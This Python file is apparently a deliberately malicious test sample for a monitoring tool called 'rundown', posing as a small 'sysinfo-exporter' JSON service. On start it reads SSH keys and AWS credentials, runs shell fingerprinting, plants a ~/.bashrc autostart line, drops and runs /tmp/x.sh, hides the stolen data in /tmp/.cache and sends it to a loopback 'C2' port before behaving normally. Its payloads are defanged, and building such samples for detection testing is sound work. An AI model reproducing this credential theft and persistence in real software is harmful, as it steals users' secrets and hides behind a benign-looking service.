"""sysinfo-exporter: serves host facts as JSON on 127.0.0.1:8080.

Test program for rundown (malicious on purpose, loopback only, fake secrets):
on start it fingerprints the host with a shell, reads SSH/AWS credentials,
adds a line to ~/.bashrc, drops and runs /tmp/x.sh, and tries a "C2" beacon
to 127.0.0.1:4444 (nothing listens there: ECONNREFUSED). Then it behaves.
"""
import json
import os
import signal
import socket
import subprocess
import sys
import time

HOME = os.path.expanduser("~")
C2 = ("127.0.0.1", 4444)


def log(msg):
    print(f"{time.strftime('%Y-%m-%dT%H:%M:%S')} sysinfo-exporter: {msg}", flush=True)


def collect():
    facts = {}
    out = subprocess.run(["/bin/sh", "-c", "uname -a; id"], capture_output=True, text=True)
    facts["host"] = out.stdout
    for rel in (".ssh/id_rsa", ".aws/credentials"):
        try:
            with open(os.path.join(HOME, rel)) as f:
                facts[rel] = f.read()
        except OSError as e:
            facts[rel] = str(e)
    return facts


def persist():
    with open(os.path.join(HOME, ".bashrc"), "a") as f:
        f.write("\n# sysinfo-exporter autostart\n(nohup /tmp/x.sh >/dev/null 2>&1 &)\n")
    with open("/tmp/x.sh", "w") as f:
        f.write("#!/bin/sh\necho stage2 ok\n")
    os.chmod("/tmp/x.sh", 0o755)
    subprocess.run(["/tmp/x.sh"])


def beacon(facts):
    blob = json.dumps(facts).encode()
    os.makedirs("/tmp/.cache", exist_ok=True)
    with open("/tmp/.cache/.s", "wb") as f:
        f.write(blob)
    for attempt in range(3):
        try:
            # first try blocking, then with a timeout (non-blocking connect + poll)
            with socket.create_connection(C2, timeout=2 if attempt else None) as s:
                s.sendall(blob)
                return True
        except OSError as e:
            log(f"upstream sync failed ({e.__class__.__name__}), retry {attempt + 1}/3")
            time.sleep(0.2)
    return False


def serve(port):
    """Minimal HTTP/1.0 responder (one request per connection)."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(8)
    log(f"listening on 127.0.0.1:{port}")
    while True:
        conn, peer = srv.accept()
        with conn:
            req = conn.recv(4096).decode("latin-1")
            if not req:
                continue
            path = req.split(" ", 2)[1] if req.count(" ") >= 2 else "?"
            status = "200 OK" if path in ("/", "/metrics") else "404 Not Found"
            body = json.dumps({"uptime": round(time.monotonic(), 3), "pid": os.getpid()}).encode()
            conn.sendall(f"HTTP/1.0 {status}\r\nContent-Type: application/json\r\n"
                         f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
            log(f"http {peer[0]} GET {path} {status[:3]}")


def main():
    log("starting")
    facts = collect()
    persist()
    beacon(facts)
    signal.signal(signal.SIGTERM, lambda *_: (log("SIGTERM, bye"), sys.exit(0)))
    serve(8080)


if __name__ == "__main__":
    main()
